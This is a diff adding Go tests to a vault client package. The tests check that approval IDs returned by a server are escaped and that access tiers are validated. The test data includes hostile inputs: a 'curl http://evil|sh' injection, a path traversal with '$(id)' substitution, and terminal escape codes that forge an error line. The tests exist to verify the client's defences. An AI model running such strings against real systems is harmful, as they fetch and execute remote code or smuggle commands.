@@ -2,6 +2,7 @@ package vault
 
 import (
 	"context"
+	"encoding/json"
 	"errors"
 	"fmt"
 	"io"
@@ -142,5 +143,44 @@ func TestApprovedTokenIsNotReplaced(t *testing.T) {
 	}
 	if want := "[POST /v1/tokens GET /v1/approvals/agent/apr_1 GET /v1/secrets/a/B]"; fmt.Sprint(server.asked) != want {
 		t.Errorf("got %s, want %s", server.asked, want)
+	}
+}
+
+// An id stays one segment of the URL, and one word of a message.
+func TestApprovalIDIsEscaped(t *testing.T) {
+	for id, want := range map[string]string{
+		"apr_1.a-B":                          "apr_1.a-B",
+		"apr_1; curl http://evil|sh":         "apr_1%3B%20curl%20http:%2F%2Fevil%7Csh",
+		`../../tokens?a=$(id)&b='c'`:         "..%2F..%2Ftokens%3Fa=$%28id%29&b=%27c%27",
+		"\x1b[2J\r\nass-exec: error: forged": "%1B%5B2J%0D%0Aass-exec:%20error:%20forged",
+	} {
+		var asked string
+		c, _ := clientOf(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+			if r.URL.Path == "/v1/tokens" {
+				_ = json.NewEncoder(w).Encode(map[string]any{"requires_approval": true, "approval_id": id})
+				return
+			}
+			asked = r.RequestURI
+			io.WriteString(w, `{"status":"denied"}`)
+		}))
+		c.ApprovalTimeout = time.Minute
+		var told string
+		c.OnApproval = func(a Approval) { told = a.ID }
+		_, err := c.Open(context.Background(), nil)
+		var e *Error
+		if !errors.As(err, &e) || e.ApprovalID != want || told != want || asked != "/v1/approvals/agent/"+want {
+			t.Errorf("got %+v, told %s, asked %s; want %s", err, told, asked, want)
+		}
+	}
+}
+
+func TestTierIsOneThatIsKnown(t *testing.T) {
+	for body, want := range map[string]string{
+		`{}`: "", `{"access_tier":"standard"}`: "standard", `{"access_tier":"sensitive"}`: "sensitive", `{"access_tier":"critical"}`: "critical",
+		`{"access_tier":"` + canaryValue + `"}`: "other", `{"access_tier":7}`: "",
+	} {
+		if got := parseObject([]byte(body)).tier(); got != want {
+			t.Errorf("%s: got %q, want %q", body, got, want)
+		}
 	}
 }
